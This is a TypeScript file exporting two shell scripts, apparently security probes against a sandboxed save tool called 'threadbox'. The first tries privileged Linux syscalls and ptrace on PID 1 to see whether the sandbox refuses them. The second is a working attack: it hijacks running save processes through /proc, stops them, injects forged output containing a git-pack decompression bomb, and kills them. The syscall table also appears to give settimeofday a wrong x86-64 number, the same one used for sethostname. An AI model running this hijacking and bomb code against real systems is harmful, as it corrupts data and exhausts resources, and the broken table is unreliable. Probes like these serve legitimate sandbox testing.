/** System calls by their numbers on x86-64 and arm64 (linux/unistd.h), each of which must be refused. Prints how many. */
export const SYSTEM_CALLS = `python3 - <<'END'
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == 'x86_64'
calls = dict(mount=(165, 40), umount2=(166, 39), pivot_root=(155, 41), chroot=(161, 51), unshare=(272, 97), setns=(308, 268), bpf=(321, 280),
  perf_event_open=(298, 241), keyctl=(250, 219), add_key=(248, 217), userfaultfd=(323, 282), open_by_handle_at=(304, 265), init_module=(175, 105),
  kexec_load=(246, 104), reboot=(169, 142), swapon=(167, 224), settimeofday=(170, 170), sethostname=(170 + 0, 161), syslog=(103, 116), quotactl=(179, 60),
  fsopen=(430, 430), move_mount=(429, 429))
arguments = dict(unshare=(0x10000000,), sethostname=(b'x', 1), syslog=(3, ctypes.create_string_buffer(64), 64), chroot=(b'/tmp',), settimeofday=(None, None),
  perf_event_open=(ctypes.create_string_buffer(112), 0, -1, -1, 0), userfaultfd=(0,), keyctl=(0, -3, 1), add_key=(b'user', b'x', b'x', 1, -3), bpf=(0, None, 0))
for name, numbers in calls.items():
  number = numbers[0 if x86 else 1]
  if libc.syscall(number, *arguments.get(name, (b'/tmp', b'/tmp', b'tmpfs', 0, 0))) != -1: print('did', name)
  elif ctypes.get_errno() not in (1, 13, 38): print(name, os.strerror(ctypes.get_errno()))
# PTRACE_ATTACH to PID 1, and its memory by another way.
if libc.ptrace(16, 1, 0, 0) != -1: print('traces')
print('tried', len(calls))
END`;

/**
 * Leaves a process that waits for each save, stops it, and writes in its place: facts that look right, and a pack with a
 * tree of 704 MB, which takes 700 KB on its way.
 */
export const FORGE_SAVES = `cat >/tmp/forge-saves.py <<'END'
import glob, hashlib, os, signal, struct, time, zlib
SIZE = 704 << 20
def pack():
  size, first = SIZE >> 4, [(2 << 4) | (SIZE & 15)]
  while size:
    first[-1] |= 128
    first.append(size & 127)
    size >>= 7
  deflate = zlib.compressobj(1, zlib.DEFLATED, -15)
  piece = deflate.compress(bytes(1 << 24)) + deflate.flush(zlib.Z_FULL_FLUSH)
  whole = b'PACK' + struct.pack('>II', 2, 1) + bytes(first)
  # RFC 1950 and 1951: the same piece again and again, the last block, and the Adler-32 of nothing but zeros.
  whole += b'\\x78\\x01' + piece * (SIZE >> 24) + b'\\x03\\x00' + struct.pack('>I', (SIZE % 65521 << 16) + 1)
  return whole + hashlib.sha1(whole).digest()
forged = b'threadbox-save 1\\nsave ' + b'1' * 40 + b'\\n\\0' + pack() + b'done'
open('/tmp/forged', 'w').close()
while True:
  for path in glob.glob('/proc/[0-9]*/cmdline'):
    try:
      words = open(path, 'rb').read().split(b'\\0')
      pid = int(path.split('/')[2])
      if words[0] != b'threadbox-save': continue
      out = os.open('/proc/%d/fd/1' % pid, os.O_WRONLY)
      for other in glob.glob('/proc/[0-9]*/stat'):
        fields = open(other).read().rpartition(')')[2].split()
        if int(fields[3]) == pid: os.kill(int(other.split('/')[2]), signal.SIGSTOP)
      os.write(out, forged)
      os.close(out)
      os.kill(pid, signal.SIGKILL)
    except OSError: pass
  time.sleep(0.002)
END
rm -f /tmp/forged; nohup python3 /tmp/forge-saves.py >/dev/null 2>&1 & until [ -e /tmp/forged ]; do sleep 0.05; done`;
